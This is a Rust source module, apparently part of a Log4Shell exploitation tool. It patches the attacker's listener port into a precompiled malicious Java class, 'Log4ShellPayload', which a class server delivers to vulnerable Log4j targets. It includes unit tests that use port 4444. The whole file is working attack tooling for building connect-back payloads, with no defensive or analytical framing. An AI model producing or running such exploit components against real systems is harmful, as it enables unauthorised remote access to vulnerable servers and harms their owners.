//! The payload class as the attacker serves it: the compiled class with the listener's port
//! written into its constant pool.

use thiserror::Error;

/// The fixed-width placeholder compiled into `Log4ShellPayload.class`.
pub const PLACEHOLDER: &[u8] = b"LPORT=00000";

/// The payload's class name (javaFactory) and so its file name on the class server.
pub const CLASS_NAME: &str = "Log4ShellPayload";

/// Why the class could not be prepared.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum PayloadError {
    /// The class file does not contain the placeholder exactly once.
    #[error("the payload class holds the placeholder {found} time(s), expected exactly once")]
    Placeholder {
        /// How many times it was found.
        found: usize,
    },
}

/// Returns `class` with the placeholder replaced by `LPORT=<port, 5 digits>`.
///
/// The replacement has the same length, so the CONSTANT_Utf8 entry's length prefix and
/// every offset in the class file stay valid.
pub fn with_listener_port(class: &[u8], port: u16) -> Result<Vec<u8>, PayloadError> {
    let hits: Vec<usize> = class
        .windows(PLACEHOLDER.len())
        .enumerate()
        .filter(|(_, w)| *w == PLACEHOLDER)
        .map(|(i, _)| i)
        .collect();
    let [at] = hits[..] else {
        return Err(PayloadError::Placeholder { found: hits.len() });
    };
    let mut out = class.to_vec();
    let value = format!("LPORT={port:05}");
    out[at..at + PLACEHOLDER.len()].copy_from_slice(value.as_bytes());
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn port_replaces_the_placeholder_in_place() {
        let class = b"\x01\x00\x0bLPORT=00000\x07";
        let out = with_listener_port(class, 4444).unwrap();
        assert_eq!(out, b"\x01\x00\x0bLPORT=04444\x07");
        let out = with_listener_port(class, 65535).unwrap();
        assert_eq!(out, b"\x01\x00\x0bLPORT=65535\x07");
    }

    #[test]
    fn missing_or_repeated_placeholder_is_an_error() {
        assert_eq!(
            with_listener_port(b"nothing", 1),
            Err(PayloadError::Placeholder { found: 0 })
        );
        assert_eq!(
            with_listener_port(b"LPORT=00000LPORT=00000", 1),
            Err(PayloadError::Placeholder { found: 2 })
        );
    }
}
